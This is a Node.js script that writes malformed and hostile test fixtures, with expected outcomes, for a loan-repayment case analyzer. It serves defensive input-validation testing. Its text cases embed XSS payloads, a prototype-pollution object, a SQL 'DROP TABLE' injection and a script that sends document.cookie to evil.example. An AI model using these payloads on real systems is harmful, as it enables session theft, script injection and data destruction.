#!/usr/bin/env node
/**
 * Writes tests/fixtures/hostile/: malformed and hostile case files, one per file, and
 * `expected.json`, what each must end in (read by tests/hostile/*.test.ts):
 *   "not-json"       the text is not JSON: refused with a message;
 *   "errors" + paths analyze returns field errors, including one at each path listed;
 *   "ok"             a correct result (the case is valid, however odd);
 *   browser          when the browser's import differs: "not-a-case" (refused before the form: a shape
 *                    it cannot show) or "not-utf8" (refused: not UTF-8 text).
 * Generated rather than hand-typed so that control characters, lone surrogates and byte order
 * marks are exact; the very large files (50 MB, 10,000 payments) are made at test time instead.
 *
 * Usage: node tests/hostile/write-fixtures.mjs
 */
import { mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

const DIR = fileURLToPath(new URL('../fixtures/hostile/', import.meta.url));

const base = () => ({
  format: 'repayment-case/1',
  asOf: '2025-09-01',
  lender: { name: '某小贷公司', kind: 'licensed' },
  loan: { principal: '12000.00', startDate: '2025-01-15', termMonths: 12, rate: { value: '0.05', per: 'day' }, method: 'equal-payment' },
  payments: [{ date: '2025-02-15', amount: '1100.16' }],
});
/** The base case with `edit` applied to a copy. */
const with_ = (edit) => {
  const c = base();
  edit(c);
  return c;
};
const plan = (extra = {}) => ({ kind: 'instalments', base: 'supported', months: 24, firstDate: '2025-10-01', ...extra });

const SCRIPT = '<script>alert("x")</script>';
const RTL = '\u202Egnp.exe\u202C 贷款';

/** name → [file text or JSON value, expected] */
const cases = {
  // Not JSON at all.
  'truncated.json': ['{"format": "repayment-case/1", "asOf": "2025-', { outcome: 'not-json' }],
  'empty-file.json': ['', { outcome: 'not-json' }],
  'html-page.json': ['<!doctype html><html><body><script>alert(1)</script></body></html>', { outcome: 'not-json' }],
  'trailing-comma.json': ['{"format": "repayment-case/1",}', { outcome: 'not-json' }],
  'single-quotes.json': ["{'format': 'repayment-case/1'}", { outcome: 'not-json' }],
  'nan-literal.json': ['{"format": "repayment-case/1", "loan": {"principal": NaN}}', { outcome: 'not-json' }],
  'utf16le.json': [Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(JSON.stringify(base()), 'utf16le')]), { outcome: 'not-json', browser: 'not-utf8' }],

  // JSON, but not a case object.
  'null.json': [null, { outcome: 'errors', paths: [''] }],
  'array.json': [[base()], { outcome: 'errors', paths: [''] }],
  'string.json': ['"repayment-case/1"', { outcome: 'errors', paths: [''] }],
  'number.json': ['1e30', { outcome: 'errors', paths: [''] }],
  'empty-object.json': [{}, { outcome: 'errors', paths: ['format'] }],
  'other-format.json': [with_((c) => (c.format = 'repayment-case/2')), { outcome: 'errors', paths: ['format'] }],
  'format-as-number.json': [with_((c) => (c.format = 1)), { outcome: 'errors', paths: ['format'] }],
  'format-huge-string.json': [with_((c) => (c.format = 'x'.repeat(20_000))), { outcome: 'errors', paths: ['format'] }],

  // Missing fields.
  'missing-as-of.json': [with_((c) => delete c.asOf), { outcome: 'errors', paths: ['asOf'] }],
  'missing-lender.json': [with_((c) => delete c.lender), { outcome: 'errors', paths: ['lender'] }],
  'missing-loan.json': [with_((c) => delete c.loan), { outcome: 'errors', paths: ['loan'] }],
  'missing-principal.json': [with_((c) => delete c.loan.principal), { outcome: 'errors', paths: ['loan.principal'] }],
  'missing-rate.json': [with_((c) => delete c.loan.rate), { outcome: 'errors', paths: ['loan.rate'] }],
  'only-format.json': [{ format: 'repayment-case/1' }, { outcome: 'errors', paths: ['asOf', 'lender', 'loan'] }],

  // Extra fields and prototype tricks: ignored, the case itself is fine.
  'extra-fields.json': [with_((c) => Object.assign(c, { admin: true, script: SCRIPT, loanExtra: { a: [1, 2, 3] } })), { outcome: 'ok' }],
  'proto-pollution.json': [
    '{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}, ' + JSON.stringify(base()).slice(1),
    { outcome: 'ok' },
  ],
  'duplicate-keys.json': ['{"format": "something-else", ' + JSON.stringify(base()).slice(1), { outcome: 'ok' }],
  // The engine ignores it; the browser's import refuses it, so the form never holds it.
  'deeply-nested-extra.json': [`${JSON.stringify(base()).slice(0, -1)}, "deep": ${'['.repeat(5000)}${']'.repeat(5000)}}`, { outcome: 'ok', browser: 'not-a-case' }],

  // Wrong types.
  'principal-as-number.json': [with_((c) => (c.loan.principal = 12000)), { outcome: 'errors', paths: ['loan.principal'] }],
  'principal-1e30-number.json': [with_((c) => (c.loan.principal = 1e30)), { outcome: 'errors', paths: ['loan.principal'] }],
  'principal-1e30-string.json': [with_((c) => (c.loan.principal = '1e30')), { outcome: 'errors', paths: ['loan.principal'] }],
  'principal-30-digits.json': [with_((c) => (c.loan.principal = '1000000000000000000000000000000')), { outcome: 'errors', paths: ['loan.principal'] }],
  'principal-nan-string.json': [with_((c) => (c.loan.principal = 'NaN')), { outcome: 'errors', paths: ['loan.principal'] }],
  'principal-infinity.json': [with_((c) => (c.loan.principal = 'Infinity')), { outcome: 'errors', paths: ['loan.principal'] }],
  'principal-object.json': [with_((c) => (c.loan.principal = { valueOf: '12000' })), { outcome: 'errors', paths: ['loan.principal'] }],
  'principal-fullwidth.json': [with_((c) => (c.loan.principal = '１２０００')), { outcome: 'errors', paths: ['loan.principal'] }],
  'principal-thousands-comma.json': [with_((c) => (c.loan.principal = '12,000.00')), { outcome: 'errors', paths: ['loan.principal'] }],
  'principal-three-decimals.json': [with_((c) => (c.loan.principal = '12000.001')), { outcome: 'errors', paths: ['loan.principal'] }],
  'term-as-string.json': [with_((c) => (c.loan.termMonths = '12')), { outcome: 'errors', paths: ['loan.termMonths'] }],
  'term-fraction.json': [with_((c) => (c.loan.termMonths = 12.5)), { outcome: 'errors', paths: ['loan.termMonths'] }],
  'rate-as-string.json': [with_((c) => (c.loan.rate = '0.05')), { outcome: 'errors', paths: ['loan.rate'], browser: 'not-a-case' }],
  'rate-period-week.json': [with_((c) => (c.loan.rate.per = 'week')), { outcome: 'errors', paths: ['loan.rate.per'] }],
  'payments-object.json': [with_((c) => (c.payments = { 0: { date: '2025-02-15', amount: '1' } })), { outcome: 'errors', paths: ['payments'], browser: 'not-a-case' }],
  'payments-junk-entries.json': [with_((c) => (c.payments = [null, 1, 'x', []])), { outcome: 'errors', paths: ['payments.0'], browser: 'not-a-case' }],
  'compound-as-string.json': [with_((c) => (c.overdue = { compound: 'yes' })), { outcome: 'errors', paths: ['overdue.compound'] }],
  // The evidence log's conduct flags are true or false, never text; the newest two included.
  'evidence-flag-as-string.json': [
    with_((c) => (c.evidence = [{ at: '2025-08-26T10:15', channel: 'sms', who: '自称某律师事务所', falseLegalClaims: 'yes', thirdPartyThreats: true }])),
    { outcome: 'errors', paths: ['evidence.0.falseLegalClaims'] },
  ],
  'lender-kind-unknown.json': [with_((c) => (c.lender.kind = 'bank')), { outcome: 'errors', paths: ['lender.kind'] }],
  'method-unknown.json': [with_((c) => (c.loan.method = 'magic')), { outcome: 'errors', paths: ['loan.method'] }],

  // Negative and absurd values.
  'principal-negative.json': [with_((c) => (c.loan.principal = '-12000.00')), { outcome: 'errors', paths: ['loan.principal'] }],
  'principal-zero.json': [with_((c) => (c.loan.principal = '0.00')), { outcome: 'errors', paths: ['loan.principal'] }],
  'payment-negative.json': [with_((c) => (c.payments = [{ date: '2025-02-15', amount: '-500' }])), { outcome: 'errors', paths: ['payments.0.amount'] }],
  'term-zero.json': [with_((c) => (c.loan.termMonths = 0)), { outcome: 'errors', paths: ['loan.termMonths'] }],
  'term-negative.json': [with_((c) => (c.loan.termMonths = -12)), { outcome: 'errors', paths: ['loan.termMonths'] }],
  'term-billion.json': [with_((c) => (c.loan.termMonths = 1e9)), { outcome: 'errors', paths: ['loan.termMonths'] }],
  'rate-negative.json': [with_((c) => (c.loan.rate.value = '-0.05')), { outcome: 'errors', paths: ['loan.rate.value'] }],
  'rate-absurd-per-day.json': [with_((c) => (c.loan.rate.value = '9999.9999999999')), { outcome: 'errors', paths: ['loan.rate.value'] }],
  'principal-largest-allowed.json': [with_((c) => (c.loan.principal = '999999999999.99')), { outcome: 'ok' }],
  'highest-rate-longest-term.json': [
    with_((c) => Object.assign(c.loan, { principal: '999999999999.99', termMonths: 360, rate: { value: '1000', per: 'year' }, startDate: '1980-01-01' })),
    { outcome: 'ok' },
  ],
  'payment-larger-than-loan.json': [with_((c) => (c.payments = [{ date: '2025-02-15', amount: '999999999999.99' }])), { outcome: 'ok' }],
  'plan-months-absurd.json': [with_((c) => (c.plans = [plan({ months: 100000 })])), { outcome: 'errors', paths: ['plans.0.months'] }],
  'plans-too-many.json': [with_((c) => (c.plans = Array.from({ length: 11 }, () => plan()))), { outcome: 'errors', paths: ['plans'] }],
  'budget-absurd.json': [
    with_((c) => {
      c.budget = { income: '999999999999.99', essentials: '0' };
      c.plans = [plan()];
    }),
    { outcome: 'ok' },
  ],
  'budget-negative.json': [with_((c) => (c.budget = { income: '-5000', essentials: '3000' })), { outcome: 'errors', paths: ['budget.income'] }],
  'claim-absurd.json': [with_((c) => (c.claim = { amount: '999999999999.99', date: '2025-08-28', source: '短信' })), { outcome: 'ok' }],

  // Dates.
  'as-of-year-9999.json': [with_((c) => (c.asOf = '9999-12-31')), { outcome: 'errors', paths: ['asOf'] }],
  'start-year-9999.json': [with_((c) => (c.loan.startDate = '9999-01-15')), { outcome: 'errors', paths: ['loan.startDate'] }],
  'date-february-30.json': [with_((c) => (c.loan.startDate = '2025-02-30')), { outcome: 'errors', paths: ['loan.startDate'] }],
  'date-slashes.json': [with_((c) => (c.loan.startDate = '15/01/2025')), { outcome: 'errors', paths: ['loan.startDate'] }],
  'date-as-number.json': [with_((c) => (c.loan.startDate = 20250115)), { outcome: 'errors', paths: ['loan.startDate'] }],
  'date-with-time.json': [with_((c) => (c.asOf = '2025-09-01T00:00:00Z')), { outcome: 'errors', paths: ['asOf'] }],
  'as-of-before-start.json': [with_((c) => (c.asOf = '2024-01-01')), { outcome: 'errors', paths: ['loan.startDate', 'asOf'] }],
  'widest-date-range.json': [with_((c) => Object.assign(c, { asOf: '2100-12-31', loan: { ...c.loan, startDate: '1980-01-01' }, payments: [] })), { outcome: 'ok' }],
  'payment-after-as-of.json': [with_((c) => (c.payments = [{ date: '2099-01-01', amount: '100' }])), { outcome: 'ok' }],

  // Text: markup, bidi overrides, control characters, odd Unicode, length.
  'lender-script-tag.json': [with_((c) => (c.lender.name = SCRIPT)), { outcome: 'ok', text: { 'lender.name': SCRIPT } }],
  'lender-rtl-override.json': [with_((c) => (c.lender.name = RTL)), { outcome: 'ok', text: { 'lender.name': RTL } }],
  'borrower-img-onerror.json': [
    with_((c) => (c.borrower = { name: '<img src=x onerror=alert(1)>', address: '"><svg onload=alert(1)>' })),
    { outcome: 'ok', text: { 'borrower.name': '<img src=x onerror=alert(1)>', 'borrower.address': '"><svg onload=alert(1)>' } },
  ],
  'hardship-injection.json': [
    with_((c) => (c.letter = { hardship: "</p><script>fetch('https://evil.example/?'+document.cookie)</script>${7*7}{{constructor.constructor('alert(1)')()}}" })),
    { outcome: 'ok', text: { 'letter.hardship': "</p><script>fetch('https://evil.example/?'+document.cookie)</script>${7*7}{{constructor.constructor('alert(1)')()}}" } },
  ],
  'lender-control-characters.json': [with_((c) => (c.lender.name = 'A\u0000B\u0007C\u001bD\u200bE\ufeffF')), { outcome: 'ok' }],
  'lender-lone-surrogate.json': ['{' + JSON.stringify(base()).slice(1).replace('"某小贷公司"', '"\\ud800贷款\\udfff"'), { outcome: 'ok' }],
  'lender-emoji-zalgo.json': [with_((c) => (c.lender.name = '💸👨‍👩‍👧 Z̷̡̛̛a̸l̵g̶o̴ 借贷')), { outcome: 'ok' }],
  'lender-name-too-long.json': [with_((c) => (c.lender.name = '贷'.repeat(201))), { outcome: 'errors', paths: ['lender.name'] }],
  'hardship-too-long.json': [with_((c) => (c.letter = { hardship: 'x'.repeat(20_000) })), { outcome: 'errors', paths: ['letter.hardship'] }],
  'contract-no-sql.json': [with_((c) => (c.lender.contractNo = "1'; DROP TABLE loans; --")), { outcome: 'ok', text: { 'lender.contractNo': "1'; DROP TABLE loans; --" } }],
  'byte-order-mark.json': [Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(JSON.stringify(base(), null, 2))]), { outcome: 'ok', bom: true }],
};

rmSync(DIR, { recursive: true, force: true });
mkdirSync(DIR, { recursive: true });
const expected = {};
for (const [name, [value, outcome]] of Object.entries(cases)) {
  const body = Buffer.isBuffer(value) ? value : typeof value === 'string' ? value : `${JSON.stringify(value, null, 2)}\n`;
  writeFileSync(DIR + name, body);
  expected[name] = outcome;
}
writeFileSync(DIR + 'expected.json', `${JSON.stringify(expected, null, 2)}\n`);
console.log(`${readdirSync(DIR).length - 1} hostile case files in ${DIR}`);
